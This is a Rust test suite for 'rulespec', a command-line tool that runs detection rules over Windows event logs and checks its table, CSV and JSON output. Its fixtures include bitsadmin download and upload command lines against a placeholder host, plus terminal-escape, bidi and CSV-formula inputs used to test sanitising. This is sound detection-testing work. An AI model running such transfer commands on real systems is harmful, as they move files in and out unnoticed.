//! The output of `rulespec run`.

use std::fs;
use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};

use assert_cmd::cargo::cargo_bin;
use serde_json::{Value as Json, json};

const DOWNLOAD: &str = r"bitsadmin  /transfer j http://files.example/a.bin C:\Users\Public\a.bin";
const UPLOAD: &str = r"bitsadmin /transfer j /UPLOAD http://files.example/b.bin C:\Users\Public\b.bin";
const LIST: &str = "bitsadmin /list";

/// `rulespec run` in a fixed environment.
fn rulespec(width: u16) -> Command {
    let mut command = Command::new(cargo_bin("rulespec"));
    command.current_dir(rulespec_testing::files::ROOT).arg("run").stdin(Stdio::null());
    command.env("COLUMNS", width.to_string());
    for name in ["NO_COLOR", "CLICOLOR", "CLICOLOR_FORCE"] {
        command.env_remove(name);
    }
    command
}

fn run<S: AsRef<std::ffi::OsStr>>(arguments: impl IntoIterator<Item = S>) -> Output {
    rulespec(120).args(arguments).output().unwrap()
}

fn stdout(output: &Output) -> String {
    String::from_utf8(output.stdout.clone()).unwrap()
}

fn stderr(output: &Output) -> String {
    String::from_utf8(output.stderr.clone()).unwrap()
}

fn event(provider: &str, id: u16, record: u64, time: &str, data: &[(&str, &str)]) -> String {
    let data: String =
        data.iter().map(|(name, value)| format!("<Data Name='{name}'>{value}</Data>")).collect();
    format!(
        "<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System>\
         <Provider Name='{provider}'/><EventID>{id}</EventID><TimeCreated SystemTime='{time}'/>\
         <EventRecordID>{record}</EventRecordID><Computer>ws07.corp.example</Computer></System>\
         <EventData>{data}</EventData></Event>\n"
    )
}

fn sysmon(record: u64, time: &str, command_line: &str) -> String {
    let image = r"C:\Windows\System32\bitsadmin.exe";
    let data = [
        ("ProcessId", "4096"),
        ("Image", image),
        ("OriginalFileName", "bitsadmin.exe"),
        ("CommandLine", command_line),
        ("User", r"CORP\e.larsen"),
    ];
    event("Microsoft-Windows-Sysmon", 1, record, time, &data)
}

fn security(record: u64, time: &str, command_line: &str) -> String {
    let data = [
        ("SubjectUserName", "e.larsen"),
        ("SubjectDomainName", "CORP"),
        ("NewProcessId", "0x1000"),
        ("NewProcessName", r"C:\Windows\System32\bitsadmin.exe"),
        ("CommandLine", command_line),
    ];
    event("Microsoft-Windows-Security-Auditing", 4688, record, time, &data)
}

/// A file of events in a temporary folder, which must be kept alive.
fn file(name: &str, events: &[String]) -> (tempfile::TempDir, PathBuf) {
    let folder = tempfile::tempdir().unwrap();
    let path = folder.path().join(name);
    fs::write(&path, format!("<Events>\n{}</Events>\n", events.concat())).unwrap();
    (folder, path)
}

fn day() -> (tempfile::TempDir, PathBuf) {
    let events = [
        sysmon(1, "2026-01-02T03:04:05.123Z", DOWNLOAD),
        sysmon(2, "2026-01-02T03:05:00Z", LIST),
        sysmon(3, "2026-01-02T05:06:07Z", UPLOAD),
    ];
    file("day.xml", &events)
}

/// Output without the path of the temporary folder.
fn without_folder(text: &str, path: &Path) -> String {
    text.replace(&*path.parent().unwrap().to_string_lossy(), "FOLDER")
}

fn json_lines(text: &str) -> Vec<Json> {
    text.lines().map(|line| serde_json::from_str(line).unwrap()).collect()
}

/// The output for the events of [`day`] with this width and these options.
fn shown(width: u16, options: &[&str]) -> String {
    let (_folder, path) = day();
    let output = rulespec(width).args(options).arg(&path).output().unwrap();
    assert_eq!(output.status.code(), Some(0));
    without_folder(&format!("{}---\n{}", stdout(&output), stderr(&output)), &path)
}

#[test]
fn wide_output_has_a_row_per_detection() {
    insta::assert_snapshot!(shown(120, &[]));
}

#[test]
fn narrow_output_has_a_card_per_detection() {
    insta::assert_snapshot!(shown(80, &["--quiet"]));
}

#[test]
fn every_event_is_explained() {
    insta::assert_snapshot!(shown(100, &["--quiet", "--all", "--explain"]));
}

#[test]
fn entities_are_shown_with_their_strength() {
    insta::assert_snapshot!(shown(100, &["--quiet", "--entities"]));
}

#[test]
fn alerts_are_shown_per_run_of_the_rule() {
    insta::assert_snapshot!(shown(100, &["--quiet", "--alerts"]));
}

#[test]
fn csv_has_the_columns_of_the_rule_and_the_place() {
    insta::assert_snapshot!(shown(80, &["--quiet", "--format", "csv"]));
}

#[test]
fn csv_has_a_header_even_without_detections() {
    let (_folder, path) = file("none.xml", &[sysmon(1, "2026-01-02T03:04:05Z", LIST)]);
    let output = run(["--format", "csv", path.to_str().unwrap()]);
    assert_eq!(stdout(&output).lines().count(), 1);
    assert!(stdout(&output).starts_with("TimeGenerated,DeviceId,"));
}

#[test]
fn json_lines_have_the_columns_of_the_rule_in_its_order() {
    let (_folder, path) = day();
    let lines = json_lines(&stdout(&run(["--format", "jsonl", path.to_str().unwrap()])));
    assert_eq!(lines.len(), 2);
    let columns: Vec<&str> = lines[0].as_object().unwrap().keys().map(String::as_str).collect();
    assert_eq!(columns[..4], ["TimeGenerated", "DeviceId", "DeviceName", "Direction"]);
    assert_eq!(columns[columns.len() - 4..], ["ParsedCommandLine", "HostName", "DnsDomain", "_rulespec"]);
    assert_eq!(lines[0]["RemoteUrl"], "http://files.example/a.bin");
    assert_eq!(lines[1]["Direction"], "Upload");
    let place = json!({"file": path, "event": 3});
    let metadata = json!({"match": true, "source": "Sysmon 1", "place": place,
        "rule_id": "2a1dc4c2-a8d6-4a0e-8539-9b971c851195", "rule_name": "Bitsadmin Activity",
        "severity": "Medium", "techniques": ["T1197", "T1105", "T1048"]});
    assert_eq!(lines[1]["_rulespec"], metadata);
}

#[test]
fn json_is_an_array_of_the_objects_of_json_lines() {
    let (_folder, path) = day();
    let path = path.to_str().unwrap();
    for options in [&["--all"][..], &["--entities", "--explain"], &["--alerts"]] {
        let array = run(options.iter().chain(&["--format", "json", path]));
        let array: Vec<Json> = serde_json::from_str(&stdout(&array)).unwrap();
        let lines = run(options.iter().chain(&["--format", "jsonl", path]));
        assert_eq!(array, json_lines(&stdout(&lines)));
        assert!(array.len() >= 2);
    }
}

#[test]
fn json_without_detections_is_an_empty_array() {
    let (_folder, path) = file("none.xml", &[sysmon(1, "2026-01-02T03:04:05Z", LIST)]);
    assert_eq!(stdout(&run(["--format", "json", path.to_str().unwrap()])), "[]\n");
}

#[test]
fn events_that_do_not_match_are_marked() {
    let (_folder, path) = day();
    let lines = json_lines(&stdout(&run(["--all", "--format", "jsonl", path.to_str().unwrap()])));
    let matches: Vec<&Json> = lines.iter().map(|line| &line["_rulespec"]["match"]).collect();
    assert_eq!(matches, [&json!(true), &json!(false), &json!(true)]);
    assert_eq!(lines[1].get("RemoteUrl"), None);
}

#[test]
fn an_explanation_has_predicates_arguments_and_offsets() {
    let (_folder, path) = day();
    let output = run(["--explain", "--format", "jsonl", path.to_str().unwrap()]);
    let explanation = &json_lines(&stdout(&output))[1]["_rulespec"]["explanation"];
    let predicates = explanation["predicates"].as_array().unwrap();
    let decides: Vec<&Json> = predicates.iter().map(|predicate| &predicate["decides"]).collect();
    assert_eq!(decides, [&json!(true), &json!(false), &json!(true)]);
    assert_eq!(predicates[2]["found"], json!({"term": "/Transfer", "at": 10, "length": 9}));
    assert_eq!(explanation["upload"], json!({"term": "/Upload", "at": 22, "length": 7}));
    assert_eq!([&explanation["remote_url"], &explanation["local_file"]], [&json!(4), &json!(5)]);
    assert_eq!(explanation["arguments"][4], "http://files.example/b.bin");
}

#[test]
fn duplicates_are_marked() {
    let events = [
        sysmon(1, "2026-01-02T03:04:05Z", DOWNLOAD),
        security(2, "2026-01-02T03:04:09.999Z", DOWNLOAD),
        security(3, "2026-01-02T03:04:15.1Z", DOWNLOAD),
    ];
    let (_folder, path) = file("twice.xml", &events);
    let output = run(["--format", "jsonl", path.to_str().unwrap()]);
    let lines = json_lines(&stdout(&output));
    let duplicates: Vec<Option<&Json>> =
        lines.iter().map(|line| line["_rulespec"].get("duplicate_of")).collect();
    assert_eq!(duplicates, [None, Some(&json!({"file": path, "event": 1})), None]);
    assert!(stderr(&output).contains("matches   3: 1 for a process reported by an earlier match\n"));
    let table = run([&path]);
    assert_eq!(stdout(&table).matches("duplicate").count(), 1);
}

#[test]
fn control_characters_are_escaped_in_human_readable_output() {
    let hostile = "x /addfile \u{202e}gpj.exe C:\\a\u{200b}\u{9b}2J&#10;\u{7f}";
    let (_folder, path) = file("a\u{202e}b.xml", &[sysmon(1, "2026-01-02T03:04:05Z", hostile)]);
    for options in [&[][..], &["--explain", "--entities"], &["--alerts"], &["--format", "json"]] {
        for width in [80, 120] {
            let output = rulespec(width).args(options).arg(&path).arg("no\u{1b}such").output().unwrap();
            let all = stdout(&output) + &stderr(&output);
            let is_raw = |c: char| c != '\n' && (c.is_control() || "\u{202e}\u{200b}".contains(c));
            assert_eq!(all.chars().find(|&c| is_raw(c)), None);
            assert!(stderr(&output).contains("rulespec: no\\x1bsuch: "));
            // A line break may split an escape.
            let unwrapped: String = stdout(&output).split_whitespace().collect();
            assert!(unwrapped.contains("\\u202e") || unwrapped.contains("\\u{202e}"));
        }
    }
}

/// A line of a DeviceProcessEvents export of advanced hunting.
fn defender(command_line: &str) -> String {
    let row = json!({
        "Timestamp": "2026-01-02T03:04:05Z", "DeviceId": "d1", "DeviceName": "ws07.corp.example",
        "ActionType": "ProcessCreated", "FileName": "bitsadmin.exe", "FolderPath": "", "ProcessId": 4096,
        "ProcessCommandLine": command_line, "InitiatingProcessFolderPath": "", "InitiatingProcessSHA256": "",
        "InitiatingProcessAccountDomain": "corp", "InitiatingProcessAccountName": "e.larsen",
    });
    format!("{row}\n")
}

#[test]
fn escape_sequences_and_line_feeds_are_escaped() {
    let folder = tempfile::tempdir().unwrap();
    let path = folder.path().join("x.jsonl");
    fs::write(&path, defender("x /addfile \u{1b}]0;x\u{7}\n\r\t\u{0}")).unwrap();
    for width in [80, 120] {
        let output = rulespec(width).arg(&path).output().unwrap();
        assert!(stdout(&output).contains("\\x1b]0;x\\x07\\n\\r"), "{}", stdout(&output));
        assert!(!stdout(&output).contains(['\u{1b}', '\u{7}', '\r', '\t', '\0']));
    }
}

#[test]
fn only_the_first_twenty_errors_of_a_file_are_shown() {
    let folder = tempfile::tempdir().unwrap();
    let path = folder.path().join("x.jsonl");
    let bad = "{\"broken\": \n".repeat(1_025);
    fs::write(&path, defender(DOWNLOAD) + &bad + &defender(UPLOAD)).unwrap();
    let output = run([&path]);
    let errors = stderr(&output);
    assert_eq!(errors.lines().filter(|line| line.starts_with("rulespec: ")).count(), 21, "{errors}");
    assert!(errors.contains(&format!("rulespec: {}: 1,005 more errors not shown\n", path.display())));
    assert!(errors.ends_with("matches   2\nerrors    1,025\n"));
    assert_eq!(output.status.code(), Some(0));
    assert_eq!(run([Path::new("--strict"), &path]).status.code(), Some(1));
}

#[test]
fn raw_csv_is_exact() {
    let (_folder, path) = file("x.xml", &[sysmon(1, "2026-01-02T03:04:05Z", "x /addfile j =1+1 \u{202e}")]);
    let output = stdout(&run(["--format", "csv", "--raw", path.to_str().unwrap()]));
    let mut reader = csv::Reader::from_reader(output.as_bytes());
    let record = reader.records().next().unwrap().unwrap();
    assert_eq!([&record[4], &record[5]], ["=1+1", "\u{202e}"]);
}

#[test]
fn colours_are_used_on_terminals_and_on_request() {
    let (_folder, path) = day();
    let escapes = |options: &[&str], variable: &str| {
        let mut command = rulespec(120);
        if !variable.is_empty() {
            command.env(variable, "1");
        }
        let output = command.args(options).arg(&path).output().unwrap();
        (stdout(&output) + &stderr(&output)).contains('\u{1b}')
    };
    assert!(!escapes(&[], ""));
    assert!(escapes(&["--color", "always"], ""));
    assert!(escapes(&["--color", "always"], "NO_COLOR"));
    assert!(escapes(&[], "CLICOLOR_FORCE"));
    assert!(!escapes(&["--color", "never"], "CLICOLOR_FORCE"));
    assert!(!escapes(&["--color", "always", "--quiet", "--format", "jsonl"], ""));
}

#[test]
fn a_closed_output_is_not_an_error() {
    let events: Vec<String> = (0..2_000).map(|n| sysmon(n, "2026-01-02T03:04:05Z", DOWNLOAD)).collect();
    let (_folder, path) = file("many.xml", &events);
    for format in ["table", "jsonl", "json", "csv", "markdown"] {
        let mut command = rulespec(120);
        command.args(["--quiet", "--format", format]).arg(&path);
        let mut child = command.stdout(Stdio::piped()).stderr(Stdio::piped()).spawn().unwrap();
        drop(child.stdout.take());
        let output = child.wait_with_output().unwrap();
        assert_eq!((output.status.code(), stderr(&output).as_str()), (Some(0), ""), "{format}");
    }
}

#[test]
fn the_examples_have_detections_and_no_errors() {
    for (name, count) in [
        ("defender.csv", 3),
        ("defender.jsonl", 3),
        ("sysmon.evtx", 2),
        ("sysmon.xml", 2),
        ("winlogbeat.jsonl", 2),
    ] {
        let output = run(["--strict", "--format", "jsonl", &format!("examples/events/{name}")]);
        assert_eq!(output.status.code(), Some(0), "{}", stderr(&output));
        assert_eq!(json_lines(&stdout(&output)).len(), count, "{name}");
    }
}

#[test]
fn a_dash_is_standard_input() {
    let (_folder, path) = day();
    let mut command = rulespec(120);
    command.args(["--format", "jsonl", "-"]).stdin(fs::File::open(&path).unwrap());
    assert_eq!(json_lines(&stdout(&command.output().unwrap())).len(), 2);
}

#[test]
fn unreadable_files_are_reported_by_name() {
    let folder = tempfile::tempdir().unwrap();
    let empty = folder.path().join("empty.json");
    fs::write(&empty, "").unwrap();
    let (_folder, good) = day();
    let text = folder.path().join("text.md");
    fs::write(&text, "# No telemetry\n").unwrap();
    let other = folder.path().join("other.json");
    fs::write(&other, "{\"level\": \"info\"}\n").unwrap();
    for path in [empty, text, other, folder.path().join("missing.evtx")] {
        let alone = run([&path]);
        assert_eq!(alone.status.code(), Some(1), "{}", stderr(&alone));
        let prefix = format!("rulespec: {}: ", path.display());
        assert!(stderr(&alone).starts_with(&prefix), "{}", stderr(&alone));
        // The other files are read, but the exit status tells that one of them gave nothing.
        let beside = run([&path, &good]);
        assert_eq!(beside.status.code(), Some(1));
        assert!(stderr(&beside).contains("files     1 read; 1 could not be read\n"));
        let strict = run([Path::new("--strict"), &path, &good]);
        assert_eq!(strict.status.code(), Some(1));
        assert_eq!(stdout(&strict), stdout(&beside));
    }
}

#[test]
fn wrong_usage_exits_with_2() {
    for arguments in [&[][..], &["--no-such", "x"], &["--format", "yaml", "x"], &["--alerts", "--all", "x"]] {
        let output = run(arguments);
        assert_eq!(output.status.code(), Some(2), "{arguments:?}");
        assert!(stderr(&output).contains("error: "));
    }
}

#[test]
fn quiet_omits_the_summary_but_not_errors() {
    let output = run(["--quiet", "no-such-file"]);
    assert_eq!(stderr(&output).lines().count(), 1);
}

#[test]
fn completions_are_printed_for_each_shell() {
    for (shell, mark) in
        [("bash", "complete -F"), ("zsh", "#compdef rulespec"), ("fish", "complete -c rulespec")]
    {
        let output = Command::new(cargo_bin("rulespec")).args(["completions", shell]).output().unwrap();
        assert!(stdout(&output).contains(mark));
    }
    let version = Command::new(cargo_bin("rulespec")).arg("-V").output().unwrap();
    assert_eq!(stdout(&version), format!("rulespec {}\n", env!("CARGO_PKG_VERSION")));
}
